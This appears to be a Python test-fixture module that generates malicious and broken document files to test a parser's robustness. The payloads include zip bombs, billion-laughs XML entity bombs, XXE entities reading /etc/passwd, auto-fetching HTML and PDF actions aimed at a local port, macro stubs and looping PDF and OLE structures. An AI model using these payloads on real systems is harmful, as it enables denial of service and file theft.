"""Files that mean harm, or were harmed: bombs, things that reach out, things that are not what they say, broken ones.

Each is made here from nothing or from a file of ours; `harmful(port)` and `broken(seeds)` list them.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterator, Mapping
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import pikepdf

Files = dict[str, tuple[str, Callable[[], bytes]]]
"""{what it is: (the name it comes under, how it is made)}."""

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEXT = "<w:p><w:r><w:t>某街道办事处2023年政府信息公开工作年度报告</w:t></w:r></w:p>"
LAUGHS = (
    '<!DOCTYPE bomb [<!ENTITY l0 "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
QUADRATIC = f'<!DOCTYPE bomb [<!ENTITY l9 "{"哈" * 60_000}">]>'


def packed(members: Mapping[str, bytes | str], how: int = ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with ZipFile(made, "w", how) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return made.getvalue()


def docx(body: str = TEXT, *, doctype: str = "", **more: bytes | str) -> bytes:
    """A document of its own; `more` are further members, `__` standing for a slash."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": types,
        "_rels/.rels": relations(
            f'<Relationship Id="r1" Type="{R}/officeDocument" Target="word/document.xml"/>'
        ),
        "word/document.xml": f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}'
        "</w:body></w:document>",
    }
    return packed(
        members | {name.replace("__", "/"): value for name, value in more.items()}
    )


def relations(inside: str) -> str:
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'


def xlsx(sheet: str, *, doctype: str = "", workbook: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/></Types>'
    )
    return packed(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": relations(
                f'<Relationship Id="r1" Type="{R}/officeDocument" Target="xl/workbook.xml"/>'
            ),
            "xl/workbook.xml": f'{doctype}<workbook xmlns="{main}" xmlns:r="{R}"><sheets>'
            f'<sheet name="表三" sheetId="1" r:id="r1"/></sheets>{workbook}</workbook>',
            "xl/_rels/workbook.xml.rels": relations(
                f'<Relationship Id="r1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/>'
            ),
            "xl/worksheets/sheet1.xml": f'{doctype}<worksheet xmlns="{main}"><sheetData>{sheet}</sheetData></worksheet>',
        }
    )


def ods(table: str, doctype: str = "") -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    tables, texts = (
        f"urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"
        for name in ("table", "text")
    )
    content = (
        f'<?xml version="1.0"?>{doctype}<office:document-content xmlns:office="{office}" xmlns:table="{tables}"'
        f' xmlns:text="{texts}"><office:body><office:spreadsheet><table:table table:name="表三">{table}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/></manifest:manifest>'
    )
    return packed(
        {"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": content}
    )


def zeros(megabytes: int) -> bytes:
    """So many megabytes of blanks, deflated: a thousandth of them."""
    press, piece = zlib.compressobj(9), b" " * 1024 * 1024
    return b"".join([*(press.compress(piece) for _ in range(megabytes)), press.flush()])


def swollen(megabytes: int) -> bytes:
    """A document that unpacks to so much; its directory says so."""
    made = io.BytesIO()
    with (
        ZipFile(made, "w", ZIP_DEFLATED) as archive,
        archive.open("word/document.xml", "w", force_zip64=True) as member,
    ):
        for _ in range(megabytes):
            member.write(b" " * 1024 * 1024)
    return made.getvalue()


def lying(megabytes: int = 300) -> bytes:
    """The same, and the directory says that it is small."""
    data = bytearray(swollen(megabytes))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


def crowded() -> bytes:
    return packed({f"word/{number}.xml": b"" for number in range(40_000)}, ZIP_STORED)


def overlapping() -> bytes:
    """A thousand directory entries for one and the same swollen member."""
    made = io.BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 60 * 1024 * 1024)
        first = archive.filelist[0]
        for number in range(1000):
            twin = ZipInfo(f"word/{number}.xml")
            for field in (
                "header_offset",
                "CRC",
                "compress_size",
                "file_size",
                "compress_type",
                "flag_bits",
            ):
                setattr(twin, field, getattr(first, field))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return made.getvalue()


def locked_zip() -> bytes:
    data = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + offset] |= 1
    return bytes(data)


# ── PDF ───────────────────────────────────────────────────────────────────────────────────────────────────────────
def pdf(
    content: bytes = b"",
    *,
    packed_content: bytes = b"",
    change: Callable[[pikepdf.Pdf], None] | None = None,
) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page(page_size=(595, 842))
    page = made.pages[0]
    page.Contents = made.make_stream(content)
    if packed_content:
        page.Contents.write(packed_content, filter=pikepdf.Name.FlateDecode)
    if change:
        change(made)
    made.save(out, compress_streams=False)
    made.close()
    return out.getvalue()


def locked_pdf() -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
    made.close()
    return out.getvalue()


def reaching_pdf(address: str) -> Callable[[pikepdf.Pdf], None]:
    """Opens an address by itself, has JavaScript, an outside stream and an attached program."""

    def change(made: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(address))
        made.Root.OpenAction = action
        script = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String(f"app.launchURL('{address}')")
        )
        made.Root.AA = pikepdf.Dictionary(WC=script)
        outside = made.make_stream(b"")
        outside.F = pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String(address))
        made.pages[0].Contents = pikepdf.Array(
            [made.make_stream(b""), made.make_indirect(outside)]
        )
        made.attachments["run.exe"] = b"MZ"

    return change


def looping_pdf() -> bytes:
    """Its page tree is its own child."""
    body = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1000000000/Kids[2 0 R 2 0 R 2 0 R]/Parent 2 0 R>>endobj\n"
        b"3 0 obj<</Length 3 0 R>>stream\nendstream endobj\n"
    )
    return (
        body
        + b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Prev 180/Size 4>>\nstartxref\n180\n%%EOF"
    )


def drawn(made: pikepdf.Pdf) -> None:
    """A form that draws itself, forty times."""
    form = made.make_stream(b"/F Do " * 40)
    form.Type, form.Subtype, form.BBox = (
        pikepdf.Name.XObject,
        pikepdf.Name.Form,
        pikepdf.Array([0, 0, 9, 9]),
    )
    form = made.make_indirect(form)
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form))
    made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form))


def harmful(port: int) -> Files:
    """What means harm. `port` is one that listens, for those that reach out."""
    out = f"http://127.0.0.1:{port}/"
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{out}e"><!ENTITY p SYSTEM "file:///etc/passwd">]>'
    outside = f'<!DOCTYPE x PUBLIC "-//X//EN" "{out}dtd" [<!ENTITY % all SYSTEM "{out}all">%all;]>'
    laugh = "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>"
    reach = "<w:p><w:r><w:t>某街道&e;&p;</w:t></w:r></w:p>"
    rels = relations(
        f'<Relationship Id="r1" Type="{R}/attachedTemplate" Target="{out}t.dotm" TargetMode="External"/>'
        f'<Relationship Id="r2" Type="{R}/image" Target="{out}i.png" TargetMode="External"/>'
        f'<Relationship Id="r3" Type="{R}/frame" Target="file:///etc/passwd" TargetMode="External"/>'
    )
    picture = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="r2"/>'
        "</w:drawing></w:r></w:p>"
    )
    link = f'<w:p><w:r><w:instrText>INCLUDETEXT "{out}"</w:instrText><w:fldChar w:fldCharType="begin"/></w:r></w:p>'
    page = (
        f'<!DOCTYPE html SYSTEM "{out}dtd"><html><head><base href="{out}"><link rel="stylesheet" href="s.css">'
        f'<meta http-equiv="refresh" content="0;url={out}"><script src="{out}x.js">document.write("9")</script></head>'
        f'<body background="{out}b.png" onload="fetch(\'{out}\')"><iframe src="{out}"></iframe><img src="{out}i.png">'
        f'<object data="{out}"></object><h1>某街道办事处2023年政府信息公开工作年度报告</h1><p>一、总体情况</p></body></html>'
    )
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row>'
    cell = "<table:table-row><table:table-cell><text:p>{}</text:p></table:table-cell></table:table-row>"
    macro = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name AutoOpen" * 20
    many = "<table:table-row table:number-rows-repeated='1048576'><table:table-cell"
    return {
        "zip bomb": ("报告.docx", lambda: swollen(600)),
        "zip bomb that lies": ("报告.docx", lying),
        "zip of forty thousand": ("报告.docx", crowded),
        "zip that overlaps": ("报告.docx", overlapping),
        "laughs in docx": ("报告.docx", lambda: docx(laugh, doctype=LAUGHS)),
        "laughs in xlsx": (
            "报告.xlsx",
            lambda: xlsx(row.format("&l9;"), doctype=LAUGHS),
        ),
        "laughs in ods": ("报告.ods", lambda: ods(cell.format("&l9;"), LAUGHS)),
        "laughs in html": (
            "报告.html",
            f"{LAUGHS}<html><body><p>&l9;</p></body></html>".encode,
        ),
        "one entity many times": (
            "报告.docx",
            lambda: docx(
                f"<w:p><w:r><w:t>{'&l9;' * 60_000}</w:t></w:r></w:p>", doctype=QUADRATIC
            ),
        ),
        "entities from outside": ("报告.docx", lambda: docx(reach, doctype=entity)),
        "a document type from outside": (
            "报告.docx",
            lambda: docx(TEXT, doctype=outside),
        ),
        "entities from outside in xlsx": (
            "报告.xlsx",
            lambda: xlsx(row.format("&e;&p;"), doctype=entity),
        ),
        "entities from outside in ods": (
            "报告.ods",
            lambda: ods(cell.format("&e;&p;"), entity),
        ),
        "relations to outside": (
            "报告.docx",
            lambda: docx(TEXT + picture + link, word___rels__document_xml_rels=rels),
        ),
        "a page that reaches out": ("报告.html", page.encode),
        "a PDF that reaches out": ("报告.pdf", lambda: pdf(change=reaching_pdf(out))),
        "macros": ("报告.docm", lambda: docx(TEXT, word__vbaProject_bin=macro)),
        "a PDF bomb": ("报告.pdf", lambda: pdf(packed_content=zeros(400))),
        "a PDF of two million strokes": (
            "报告.pdf",
            lambda: pdf(b"0 0 m 9 9 l S\n" * 700_000),
        ),
        "a PDF of open brackets": ("报告.pdf", lambda: pdf(b"[" * 3_000_000)),
        "a PDF that draws itself": ("报告.pdf", lambda: pdf(b"/F Do", change=drawn)),
        "a PDF that is its own child": ("报告.pdf", looping_pdf),
        "a page without end": (
            "报告.html",
            lambda: b"<html><body>" + b"<div>" * 300_000 + "深".encode(),
        ),
        "a table without end": (
            "报告.html",
            lambda: b"<table><tr>" + b"<table><tr><td>" * 100_000,
        ),
        "a cell over everything": (
            "报告.html",
            lambda: b"<table>" + b"<tr><td rowspan=999999999 colspan=999999999>1" * 900,
        ),
        "a million cells": (
            "报告.html",
            lambda: b"<table>" + (b"<tr>" + b"<td>0</td>" * 1000) * 1000 + b"</table>",
        ),
        "nested Word tables": (
            "报告.docx",
            lambda: docx(
                "<w:tbl><w:tr><w:tc>" * 20_000
                + TEXT
                + "</w:tc></w:tr></w:tbl>" * 20_000
            ),
        ),
        "Word cells over everything": (
            "报告.docx",
            lambda: docx(
                '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr></w:tc></w:tr></w:tbl>'
            ),
        ),
        "a sheet to its last cell": (
            "报告.xlsx",
            lambda: xlsx(
                '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>'
            ),
        ),
        "a sheet of repeated cells": (
            "报告.ods",
            lambda: ods(
                f"{many} table:number-columns-repeated='16384'><text:p>1</text:p></table:table-cell></table:table-row>"
            ),
        ),
        "one line of thirty megabytes": ("报告.txt", lambda: b"1" * 30_000_000),
        "numbers without end": (
            "报告.txt",
            lambda: "一、（一）1.（1）".encode() * 300_000,
        ),
        "headings without end": (
            "报告.txt",
            lambda: "一、总体情况\n（一）主动公开\n0\t0\t0\n".encode() * 60_000,
        ),
        "blanks without end": (
            "报告.txt",
            ("总体情况" + " " * 2_000_000 + "总" + "\u3000" * 2_000_000 + "\n").encode,
        ),
        "brackets without end": (
            "报告.txt",
            ("（" * 2_000_000 + "\n" + "《" * 2_000_000).encode,
        ),
        "a locked document": ("报告.docx", locked_zip),
        "a locked PDF": ("报告.pdf", locked_pdf),
        "a program": ("报告.docx", lambda: b"MZ" + bytes(range(256)) * 4000),
        "zeros": ("报告.doc", lambda: bytes(1_000_000)),
        "a compound file of nothing": (
            "报告.doc",
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600_000,
        ),
        "a compound file that loops": ("报告.doc", looping_compound),
    }


def looping_compound() -> bytes:
    """An OLE file whose tables lead back to themselves."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    head[24:34] = bytes([62, 0, 3, 0, 254, 255, 9, 0, 6, 0])
    head[44:48] = (1).to_bytes(4, "little")
    head[48:52] = (1).to_bytes(4, "little")
    head[56:60] = (4096).to_bytes(4, "little")
    head[68:72] = (0).to_bytes(4, "little")  # the table of tables begins in the table
    head[72:76] = (9999).to_bytes(4, "little")
    head[76:80] = (0).to_bytes(4, "little")
    sector = b"\x01\x00\x00\x00" * 128  # each leads to sector 1
    return bytes(head) + sector * 8


def broken(seeds: Mapping[str, bytes]) -> Iterator[tuple[str, str, bytes]]:
    """Each file cut short at some places, and under the name of another kind: (what, name, bytes)."""
    for name, body in seeds.items():
        for share in (0.02, 0.5, 0.9, 0.999):
            yield f"{name} cut at {share:.1%}", name, body[: int(len(body) * share)]
        for suffix in ("pdf", "docx", "html", "txt", "xls"):
            yield f"{name} as {suffix}", f"{name.partition('.')[0]}.{suffix}", body
